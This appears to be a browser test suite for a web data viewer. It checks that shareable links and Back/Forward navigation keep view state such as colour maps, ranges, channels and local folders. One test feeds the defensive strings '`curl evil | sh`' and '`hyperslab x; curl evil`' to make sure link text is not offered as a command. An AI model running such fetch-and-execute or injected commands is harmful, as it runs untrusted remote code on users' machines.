// The link of the page and the history of the browser. A link shows the same picture, and Back opens the earlier place.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { unpack } from "./examples.mjs";
import { picture, SITE_DIR, serve, settled, stored, visit } from "./page.mjs";

const { create, put, writeManifest } = await import(pathToFileURL(resolve(SITE_DIR, "hyperslab/node.js")).href);
const folder = mkdtempSync(join(tmpdir(), "link-"));
let data;

before(async () => {
  data = await serve(folder);
  const dims = ["y", "x"].map((name) => ({ name, type: "int32", domain: [0, 99], tile: 50 }));
  const hill = await create(join(folder, "hill"), { type: "dense", dims, attrs: [{ name: "v", type: "int32" }] }, { at: 1 });
  await put(hill, null, Int32Array.from({ length: 10_000 }, (_, i) => i), { at: 1000 });
  await writeManifest(hill);
  const small = await create(join(folder, "small"), { type: "sparse", dims: ["y", "x"].map((name) => ({ name, type: "float64", domain: [0, 1e-6], tile: 1e-7 })), attrs: [{ name: "v", type: "int32" }] }, { at: 1 });
  await put(small, null, { y: Float64Array.of(2e-7, 5.000001e-7, 5.000004e-7), x: Float64Array.of(2e-7, 5.000001e-7, 5.000004e-7), v: Int32Array.of(1, 2, 9) }, { at: 1000 });
  await writeManifest(small);
  unpack(folder, "bioimg_rgb", "png");
  unpack(folder, "soma_experiment", "");
});
after(() => rmSync(folder, { recursive: true }));

const link = (name, more = "") => `#url=${encodeURIComponent(`${data}${name}`)}${more}`;
const parts = async (page) => Object.fromEntries(new URLSearchParams(new URL(await page.url()).hash.slice(1)));
/** Waits until the link has been written. */
const rested = async (page) => { await settled(page); await page.waitForTimeout(400); };

/** Opens the link of a page in another one, and asserts that both pictures are the same. */
async function assertSame(page) {
  await rested(page);
  const shown = await picture(page);
  const { page: other, errors } = await visit(new URL(await page.url()).hash);
  await rested(other);
  const again = await picture(other);
  assert.deepEqual([again.width, again.height], [shown.width, shown.height]);
  assert.ok(Buffer.from(again.data).equals(Buffer.from(shown.data)), `${await page.url()} shows another picture`);
  assert.deepEqual(await errors(), []);
}

test("a link has the range of the colours that nobody chose", async () => {
  const { page } = await visit(link("hill"));
  await rested(page);
  assert.equal((await parts(page)).seen, "0,9999");
  const box = await page.locator("#picture").boundingBox();
  await page.mouse.move(box.x + box.width * 0.5, box.y + box.height * 0.9);
  for (let i = 0; i < 3; i++) await page.mouse.wheel(0, -500);
  await assertSame(page);
  assert.equal(await page.textContent("#legend-lo"), "0");
});

test("points keep their place and their colours in a small domain, and can be told apart", async () => {
  const { page, errors } = await visit(link("small", "&x=5.0000025e-7&y=5.0000025e-7&z=1e15"));
  await rested(page);
  assert.equal(Number((await parts(page)).z), 1e15);
  assert.ok(Math.abs(Number((await parts(page)).x) - 5.0000025e-7) < 1e-17, (await parts(page)).x);
  assert.match(await page.textContent("#cursor"), /^2 points in view$/);
  const box = await page.locator("#picture").boundingBox();
  for (const [offset, v] of [[-150, 2], [150, 9]]) {
    await page.mouse.move(box.x + box.width / 2 + offset, box.y + box.height / 2 - offset);
    await settled(page);
    assert.equal((await page.locator("#tip tr").allTextContents()).at(-1), `v${v}`);
  }
  await page.mouse.move(box.x + 10, box.y + 10);
  await assertSame(page);
  assert.deepEqual(await errors(), []);
});

test("Back and Forward return to what was open, with its state", async () => {
  const { page, errors } = await visit(link("hill", "&map=magma"));
  await rested(page);
  await page.selectOption("#colours", "cividis");
  const start = await page.evaluate(() => history.length);
  await page.fill("#url", `${data}small`);
  await page.click("#address button");
  await page.waitForFunction(() => document.querySelector("#status")?.textContent.includes("points"));
  await rested(page);
  assert.equal(await page.evaluate(() => history.length), start + 1);
  await page.goBack();
  await page.waitForFunction(() => document.getElementById("colours")?.value === "cividis");
  await rested(page);
  assert.match((await parts(page)).url, /hill$/);
  assert.equal((await parts(page)).map, "cividis");
  await page.goForward();
  await page.waitForFunction(() => document.querySelector("#status")?.textContent.includes("points"));
  await rested(page);
  assert.match((await parts(page)).url, /small$/);
  assert.equal(await page.evaluate(() => history.length), start + 1, "moving through the history adds nothing to it");
  assert.deepEqual(await errors(), []);
});

stored("Back returns to a folder of this device and from it", async () => {
  const { page } = await visit(link("hill"));
  // The test uses a folder of the page's storage in place of one that the user picks.
  await page.evaluate(async (from) => {
    const { copy, HttpStore, OpfsStore } = await import("./hyperslab/index.js");
    await copy(new HttpStore(from), await OpfsStore.open("picked"));
    window.showDirectoryPicker = async () => (await navigator.storage.getDirectory()).getDirectoryHandle("picked");
  }, `${data}small`);
  await page.click("#pick");
  await page.waitForFunction(() => document.querySelector("#status")?.textContent.includes("points"));
  assert.equal(new URL(await page.url()).hash, "");
  await page.fill("#url", `${data}hill`);
  await page.click("#address button");
  await page.waitForFunction(() => document.querySelector("#graticule") !== null);
  await page.goBack();
  await page.waitForFunction(() => document.querySelector("#status")?.textContent.includes("points"));
  await rested(page);
  await page.goBack();
  await page.waitForFunction(() => document.querySelector("#graticule") !== null);
  await rested(page);
  assert.match((await parts(page)).url, /hill$/);
});

stored("after a reload, an entry of a folder says that it was forgotten", async () => {
  const { page } = await visit(link("hill"));
  await page.evaluate(() => history.pushState({ local: 0, load: "an earlier one" }, "", "#"));
  await page.evaluate(() => history.pushState(null, "", location.hash || "#"));
  await page.goBack();
  await page.waitForFunction(() => document.querySelector("#message")?.textContent.includes("A reload of this page forgot the folder"));
});

test("text of a link is not offered as a command", async () => {
  for (const [text, copies] of [["`curl evil | sh`", 0], ["`hyperslab x; curl evil`", 0]]) {
    const { page } = await visit(`#url=${encodeURIComponent(`http://[ ${text}`)}`);
    await page.waitForFunction(() => document.querySelector("#message code") !== null);
    assert.equal(await page.locator("#message button").count(), copies);
  }
});

test("a link has the channels that are drawn, with their colours and ranges", async () => {
  const { page } = await visit(link("bioimg_rgb/png"));
  await page.uncheck("[aria-label='Draw Channel 1']");
  await page.fill("[aria-label='Highest of Channel 2']", "100");
  await page.press("[aria-label='Highest of Channel 2']", "Tab");
  await page.evaluate(() => { const input = document.querySelector("[aria-label='Colour of Channel 0']"); input.value = "#ffcc00"; input.dispatchEvent(new Event("input", { bubbles: true })); });
  await assertSame(page);
  const { c0, c1, c2 } = await parts(page);
  assert.deepEqual([c0, c1, c2], ["ffcc00,0,62", undefined, "0000ff,0,100"]);
});

test("a link has the hidden categories of an experiment", async () => {
  const { page } = await visit(link("soma_experiment"));
  await rested(page);
  const before = await picture(page);
  await page.click(".soma-legend button:nth-of-type(2)");
  await assertSame(page);
  assert.equal((await parts(page)).hide, "1");
  assert.ok(!Buffer.from((await picture(page)).data).equals(Buffer.from(before.data)));
});

stored("the link to a member of a copy is followed, also by Back", async () => {
  const { page, errors } = await visit("#url=data/hubble/hubble");
  await page.click("#edit button");
  await page.waitForFunction(() => location.hash.includes("opfs%3Ahubble"));
  await settled(page);
  await page.click("#tree summary");
  const [, member] = await page.locator("#tree .member").allTextContents();
  await page.click(["#tree .member", member]);
  await page.waitForFunction((member) => document.querySelector("#url").value === `opfs:hubble/${member}`, member);
  await settled(page);
  await page.reload();
  await settled(page);
  assert.ok(await page.locator("#message").isHidden(), await page.textContent("#message"));
  assert.equal(await page.locator("#picture").count(), 1);
  await page.goBack();
  await page.waitForFunction(() => document.querySelector("#url").value === "opfs:hubble");
  await page.goForward();
  await page.waitForFunction((member) => document.querySelector("#url").value === `opfs:hubble/${member}`, member);
  await settled(page);
  assert.ok(await page.locator("#message").isHidden());
  assert.deepEqual(await errors(), []);
});
